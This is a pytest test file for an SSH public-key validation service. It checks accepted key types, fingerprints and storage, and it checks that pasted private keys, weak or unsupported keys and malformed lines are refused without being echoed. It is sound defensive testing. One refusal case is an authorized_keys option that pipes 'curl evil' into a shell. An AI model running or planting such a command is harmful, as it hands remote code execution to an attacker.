"""Users' SSH public keys: what is accepted (and how it is stored), and what is refused with
which code, never echoing what was pasted. Keys are made with asyncssh in each run."""

from __future__ import annotations

import base64
import struct
from datetime import UTC, datetime

import asyncssh
import pytest

from domain.compute.ssh_key_services import validate
from domain.compute.ssh_keys import (
    MAX_KEYS,
    NewSshKey,
    SshKey,
    SshKeyErrorCode,
    clashes,
)
from domain.errors import InvalidInput
from infra.nodes.keys import AsyncsshKeyCodec

CODEC = AsyncsshKeyCodec()
ED25519 = asyncssh.generate_private_key("ssh-ed25519", comment="ada@laptop")
Code = SshKeyErrorCode


def _line(key: asyncssh.SSHKey) -> str:
    return key.export_public_key().decode().strip()


def _bare(key: asyncssh.SSHKey) -> str:
    return " ".join(_line(key).split()[:2])


def _ssh_string(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def _read_strings(blob: bytes) -> list[bytes]:
    out, at = [], 0
    while at < len(blob):
        (size,) = struct.unpack(">I", blob[at : at + 4])
        out.append(blob[at + 4 : at + 4 + size])
        at += 4 + size
    return out


def _security_key_lines() -> list[str]:
    """FIDO keys need a token to make; their public halves are plain blobs (PROTOCOL.u2f)."""
    ed_pk = _read_strings(asyncssh.generate_private_key("ssh-ed25519").public_data)[1]
    ec = _read_strings(asyncssh.generate_private_key("ecdsa-sha2-nistp256").public_data)
    lines = []
    for kind, parts in (("sk-ssh-ed25519@openssh.com", [ed_pk]),
                        ("sk-ecdsa-sha2-nistp256@openssh.com", [ec[1], ec[2]])):  # fmt: skip
        blob = b"".join(_ssh_string(p) for p in [kind.encode(), *parts, b"ssh:"])
        lines.append(f"{kind} {base64.b64encode(blob).decode()} yubikey")
    return lines


def refusal(name: str, pasted: str) -> list[tuple[str, str | None]]:
    with pytest.raises(InvalidInput) as refused:
        validate(CODEC, name, pasted)
    # Nothing of asyncssh's (whose message may quote the input) rides along in a traceback.
    exc = refused.value
    assert exc.__cause__ is None
    assert exc.__context__ is None or exc.__suppress_context__
    # No run of 16 characters of what was pasted appears in any message.
    messages = " ".join(p.message for p in exc.problems)
    body = "".join(pasted.split())
    for start in range(0, max(len(body) - 16, 0), 8):
        assert body[start : start + 16] not in messages
    return [(p.code, p.field) for p in exc.problems]


# --- accepted -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "size", "bits"),
    [
        ("ssh-ed25519", None, 256),
        ("ecdsa-sha2-nistp256", None, 256),
        ("ecdsa-sha2-nistp384", None, 384),
        ("ecdsa-sha2-nistp521", None, 521),
        ("ssh-rsa", 2048, 2048),
        ("ssh-rsa", 3072, 3072),
    ],
)
def test_keys_of_every_accepted_type(kind: str, size: int | None, bits: int) -> None:
    key = asyncssh.generate_private_key(kind, comment="ada@laptop",
                                        **({"key_size": size} if size else {}))  # fmt: skip
    new = validate(CODEC, " laptop ", _line(key))
    assert new == NewSshKey("laptop", _bare(key), key.get_fingerprint("sha256"), kind, bits)
    assert new.fingerprint.startswith("SHA256:")
    assert "ada@laptop" not in new.public_key


@pytest.mark.parametrize("line", _security_key_lines())
def test_security_keys_are_accepted(line: str) -> None:
    new = validate(CODEC, "yubikey", line)
    assert new.key_type == line.split()[0]
    assert new.public_key == " ".join(line.split()[:2])
    assert new.bits == 256


def test_the_comment_and_surrounding_whitespace_are_dropped() -> None:
    bare = _bare(ED25519)
    kind, blob = bare.split()
    for pasted in (
        f"{bare} ada@laptop with spaces",
        f"  {kind}\t{blob}  \n",
        f"\n{bare}\r\n",
        f"{bare} the public half of my PRIVATE KEY",
    ):
        assert validate(CODEC, "k", pasted).public_key == bare


def test_what_ssh_keygen_fingerprints_is_what_we_store() -> None:
    # `ssh-keygen -lf` printed this fingerprint for this line.
    line = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA7NglEiFnRcLCA44gH/En2kH9M3LO3ihTv4x4ei6rit a@b"
    new = validate(CODEC, "k", line)
    assert new.fingerprint == "SHA256:JTajf//AA5bKBf/JXcFLETcewZELQ8D8BmAxNKeppUU"


# --- refused --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "fmt"),
    [
        ("ssh-ed25519", "openssh"),
        ("ssh-ed25519", "pkcs8-pem"),
        ("ssh-rsa", "openssh"),
        ("ssh-rsa", "pkcs1-pem"),
        ("ecdsa-sha2-nistp256", "pkcs1-pem"),
    ],
)
def test_a_pasted_private_key_is_refused_and_not_echoed(kind: str, fmt: str) -> None:
    private = asyncssh.generate_private_key(kind).export_private_key(fmt).decode()
    assert refusal("k", private) == [(Code.PRIVATE_KEY_PASTED, "publicKey")]


def test_private_keys_in_other_shapes_are_refused() -> None:
    private = ED25519.export_private_key().decode()
    body_only = "".join(private.splitlines()[1:-1])  # armour stripped, one line
    putty = "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: x\n"
    for pasted in (body_only, putty, private.replace("\n", " ")):
        assert refusal("k", pasted) == [(Code.PRIVATE_KEY_PASTED, "publicKey")]


def test_rsa_under_2048_bits_is_refused() -> None:
    weak = asyncssh.generate_private_key("ssh-rsa", key_size=1024)
    assert refusal("k", _line(weak)) == [(Code.UNSUPPORTED_KEY_SIZE, "publicKey")]


def test_certificates_and_dsa_are_refused() -> None:
    ca = asyncssh.generate_private_key("ssh-ed25519")
    cert = ED25519.generate_user_certificate(ca, "ada").export_certificate().decode()
    assert refusal("k", cert) == [(Code.UNSUPPORTED_KEY_TYPE, "publicKey")]
    dsa = asyncssh.generate_private_key("ssh-dss")
    assert refusal("k", _line(dsa)) == [(Code.UNSUPPORTED_KEY_TYPE, "publicKey")]


def test_two_keys_are_refused() -> None:
    two = f"{_line(ED25519)}\n{_line(asyncssh.generate_private_key('ssh-ed25519'))}"
    assert refusal("k", two) == [(Code.INVALID_PUBLIC_KEY, "publicKey")]


@pytest.mark.parametrize(
    "pasted",
    [
        "",
        "   ",
        "garbage",
        "ssh-ed25519",
        "ssh-ed25519 AAAA",
        "ssh-ed25519 not-base64!",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA7NglEiFnRcLCA44gH/En2kH9M3LO3ihTv4x4ei6rit"
        + "A" * 8,
        "ssh-rsa " + _bare(ED25519).split()[1],  # the type does not match the key
        'command="curl evil|sh" ' + _bare(ED25519),  # authorized_keys options
        "---- BEGIN SSH2 PUBLIC KEY ----",
        "ssh-ed25519 " + "A" * 20_000,
    ],
)
def test_what_is_not_one_public_key_line_is_refused(pasted: str) -> None:
    assert refusal("k", pasted) == [(Code.INVALID_PUBLIC_KEY, "publicKey")]


@pytest.mark.parametrize("name", ["", "   ", "x" * 65, "tab\there", "new\nline"])
def test_names_are_1_to_64_printable_characters(name: str) -> None:
    assert refusal(name, _line(ED25519)) == [(Code.INVALID_NAME, "name")]
    assert validate(CODEC, "x" * 64, _line(ED25519)).name == "x" * 64


def test_every_problem_is_listed() -> None:
    assert refusal("", "garbage") == [
        (Code.INVALID_NAME, "name"),
        (Code.INVALID_PUBLIC_KEY, "publicKey"),
    ]


def test_the_codec_takes_only_a_bare_key_line() -> None:
    with pytest.raises(InvalidInput):
        CODEC.parse_public_key(_line(ED25519))  # a comment: screening removes it first
    with pytest.raises(InvalidInput):
        CODEC.parse_public_key(ED25519.export_private_key().decode())
    parsed = CODEC.parse_public_key(_bare(ED25519))
    assert (parsed.key_type, parsed.openssh_line, parsed.bits) == (
        "ssh-ed25519", _bare(ED25519), 256)  # fmt: skip


# --- against the owner's keys ---------------------------------------------------------------


def _stored(n: int, name: str | None = None) -> SshKey:
    return SshKey(id=n, user_id=1, name=name or f"key-{n}", public_key=f"ssh-ed25519 K{n}",
                  fingerprint=f"SHA256:{n}", key_type="ssh-ed25519", bits=256,
                  created_at=datetime.now(UTC))  # fmt: skip


def test_duplicates_names_and_the_limit() -> None:
    new = NewSshKey("Laptop", "ssh-ed25519 K9", "SHA256:9", "ssh-ed25519", 256)
    assert clashes([_stored(1)], new) == []
    assert [p.code for p in clashes([_stored(9)], new)] == [Code.DUPLICATE_KEY]
    assert [(p.code, p.field) for p in clashes([_stored(2, "LAPTOP")], new)] == [
        (Code.NAME_TAKEN, "name")
    ]
    assert [p.code for p in clashes([_stored(9, "laptop")], new)] == [
        Code.DUPLICATE_KEY,
        Code.NAME_TAKEN,
    ]
    full = [_stored(n) for n in range(100, 100 + MAX_KEYS)]
    assert [p.code for p in clashes(full, new)] == [Code.TOO_MANY_KEYS]
    assert clashes(full[:-1], new) == []
